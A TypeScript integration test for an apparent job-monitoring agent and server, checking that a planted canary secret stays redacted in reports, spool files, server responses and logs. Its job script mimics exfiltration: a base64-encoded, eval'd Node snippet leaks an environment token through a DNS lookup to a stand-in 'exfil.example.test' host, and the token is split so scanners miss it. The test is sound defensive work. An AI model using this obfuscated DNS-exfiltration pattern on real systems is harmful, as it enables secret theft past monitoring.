/*
 * Secrets planted wherever a job can put one, and looked for wherever a record of it goes: report, summary, spool, the server's answers,
 * its log and its files. Agent and server are processes, started as a user would.
 */
import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { globSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { zstdDecompressSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { describeWith } from '../../../../tools/requirements.ts'
import { eventsIn, gatehouse, inTemporaryFolder, LAUNCHER, readReport } from './testing.ts'

const CANARY = 'CANARYcanary0123456789CANARY'
/** Put together here, so that no scanner takes this file for a leak. */
const TOKEN = ['ghp', CANARY].join('_')

/** In file names, paths, arguments, the environment, DNS names, and the target of a link. */
function script(folder: string): string {
  const lookup = `const { Resolver } = require('node:dns').promises
const ask = (server, name) => {
  const resolver = new Resolver({ timeout: 50, tries: 1 })
  resolver.setServers([server])
  resolver.resolve4(name).catch(() => {})
}
ask('127.77.77.77', 'ok.example.test')
ask('127.77.77.78', process.env.LABEL + '.exfil.example.test')`
  return [
    `mkdir "${folder}/${TOKEN}.d" && cd "${folder}/${TOKEN}.d"`,
    `echo x > "${TOKEN}.txt"; mv "${TOKEN}.txt" "new-${TOKEN}"; ln -s "${TOKEN}" link; rm link`,
    `/bin/echo --password ${CANARY} "$MY_SECRET" https://user:${CANARY}@example.test/ > /dev/null`,
    `LABEL=${TOKEN} ${process.execPath} -e "eval(Buffer.from('${Buffer.from(lookup).toString('base64')}', 'base64').toString())"`,
    `/bin/true`,
  ].join('\n')
}

interface Server {
  readonly child: ChildProcess
  readonly url: string
  readonly signInUrl: string
  readonly tokenFile: string
  readonly log: () => string
}

async function startServer(data: string): Promise<Server> {
  const child = spawn(process.execPath, [LAUNCHER, 'up', '--data', data, '--port', '0', '--ready-json'], {
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let log = ''
  child.stderr.on('data', (chunk: Buffer) => (log += chunk.toString()))
  const line = await new Promise<string>((resolve, reject) => {
    child.stdout.once('data', (chunk: Buffer) => resolve(chunk.toString()))
    child.once('exit', (code) => reject(new Error(`the server ended with ${code}: ${log}`)))
  })
  return { child, ...(JSON.parse(line) as Omit<Server, 'child' | 'log'>), log: () => log }
}

async function signIn({ url, signInUrl }: Server): Promise<(path: string) => Promise<string>> {
  const answer = await fetch(`${url}/v1/session`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ code: new URL(signInUrl).hash.replace('#code=', '') }),
  })
  const cookie = (answer.headers.get('set-cookie') ?? '').split(';')[0] ?? ''
  return async (path) => {
    const response = await fetch(url + path, { headers: { cookie } })
    expect(response.status, path).toBe(200)
    return response.text()
  }
}

/** Every file below a folder, by name, as bytes. */
function filesBelow(folder: string): (readonly [name: string, bytes: Buffer])[] {
  return globSync('**/*', { cwd: folder }).flatMap((name) => {
    const path = join(folder, name)
    return statSync(path).isFile() ? [[name, readFileSync(path)] as const] : []
  })
}

const clean = (text: string, where: string) =>
  expect(text.toLowerCase().includes('canary') ? `a canary in ${where}` : 'clean').toBe('clean')

describeWith(['root', 'ebpf', 'cgroup2'], 'secrets of a job', () => {
  test('are not in report, summary, spool, nor with the server in answers, log and files', { timeout: 120_000 }, async () => {
    await inTemporaryFolder(async (folder) => {
      const report = join(folder, 'report.jsonl')
      const env = { MY_SECRET: 'CANARYofTheEnvironment', GATEHOUSE_STATE: join(folder, 'state') }
      const command = ['--', 'sh', '-c', script(folder)]
      // Nobody listens there, so everything stays in the spool.
      const away = await gatehouse(['run', '--server', 'http://127.0.0.1:1', ...command], { env: { ...env, GATEHOUSE_TOKEN: 'x' } })
      expect(away.stderr.replace(/\s+/g, ' ')).toMatch(/kept in/)
      clean(away.stderr, 'the summary')
      const spooled = filesBelow(join(folder, 'state', 'spool'))
      const batches = spooled.filter(([name]) => name.endsWith('.batch'))
      expect(batches.length).toBeGreaterThan(0)
      for (const [name, bytes] of spooled) clean(`${name} ${bytes.toString('latin1')}`, `the spool's ${name}`)
      const text = batches.map(([, bytes]) => zstdDecompressSync(bytes).toString()).join('\n')
      expect(text).toContain('exfil.example.test')
      clean(text, 'the spooled batches')

      const data = join(folder, 'data')
      const server = await startServer(data)
      try {
        const run = ['run', '--report', report, '--server', server.url, '--token-file', server.tokenFile]
        const sent = await gatehouse(
          [...run, '--job-name', `deploy with ${TOKEN}`, '--', 'sh', '-c', script(folder).replaceAll('.d"', '.e"')],
          {
            env,
          },
        )
        expect(sent.code).toBe(0)
        clean(sent.stderr, 'the summary')
        const records = readReport(report)
        const events = eventsIn(records)
        // They were planted, and seen: what is told of them is the mark.
        expect(events).toContainEqual(
          expect.objectContaining({ kind: 'dns', name: expect.stringMatching(/^‹redacted:\w+›\.exfil\.example\.test$/) }),
        )
        expect(events).toContainEqual(expect.objectContaining({ kind: 'dns', name: 'ok.example.test' }))
        for (const op of ['create', 'rename', 'symlink', 'unlink']) {
          expect(events, op).toContainEqual(expect.objectContaining({ kind: 'file', op, path: expect.stringContaining('‹redacted:') }))
        }
        clean(readFileSync(report, 'utf8'), 'the report')

        const get = await signIn(server)
        const job = records[0]?.record === 'job' ? records[0].job : undefined
        const runs = await get('/v1/runs')
        const detail = await get(`/v1/runs/${job?.run.id}`)
        const stored = await get(`/v1/jobs/${job?.id}/events`)
        expect(stored).toContain('exfil.example.test')
        for (const [where, answer] of Object.entries({ runs, detail, stored })) clean(answer, `the server's ${where}`)
        clean(server.log(), "the server's log")
      } finally {
        const ended = once(server.child, 'exit')
        server.child.kill('SIGTERM')
        await ended
      }
      clean(server.log(), "the server's log")
      const files = filesBelow(data)
      expect(files.length).toBeGreaterThan(3)
      for (const [name, bytes] of files) clean(`${name} ${bytes.toString('latin1')}`, `the server's ${name}`)
    })
  })
})
